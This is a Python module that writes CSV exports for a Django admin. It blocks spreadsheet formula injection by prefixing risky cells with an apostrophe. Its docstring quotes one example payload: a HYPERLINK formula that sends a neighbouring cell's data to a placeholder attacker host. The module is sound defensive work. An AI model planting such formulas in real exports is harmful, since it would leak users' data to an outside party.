"""The one CSV writer of every export: cells a spreadsheet will not run as formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some a tab or
a carriage return first, or spaces before the sign) as a formula: a name such as
``=HYPERLINK("https://evil.example/?x="&A2,"Open")`` would send the next cell away when
clicked. Such text is written with a leading apostrophe, which spreadsheets show as text
(OWASP's advice). Numbers, dates and empty cells are written as they are.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date
from decimal import Decimal

from import_export.formats.base_formats import CSV

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER_TYPES = (int, float, Decimal)
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")  # "-12.50" as text (the admin's cells): a number


def neutralise(value) -> str | int | float | Decimal:
    """One cell: text that could start a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, NUMBER_TYPES):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    if PLAIN_NUMBER.fullmatch(text):
        return text
    if text.startswith(FORMULA_START) or text.lstrip().startswith(FORMULA_START):
        return "'" + text
    return text


def write_csv(header: Sequence[str], rows: Iterable[Sequence]) -> str:
    """The CSV text of ``header`` and ``rows``, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue()


class SafeCSV(CSV):
    """django-import-export's CSV format (the admin's export), written by ``write_csv``.
    The admin offers only this format for export: XLSX and ODS would turn such text
    into live formulas."""

    def export_data(self, dataset, **kwargs):
        return write_csv(dataset.headers or [], dataset)
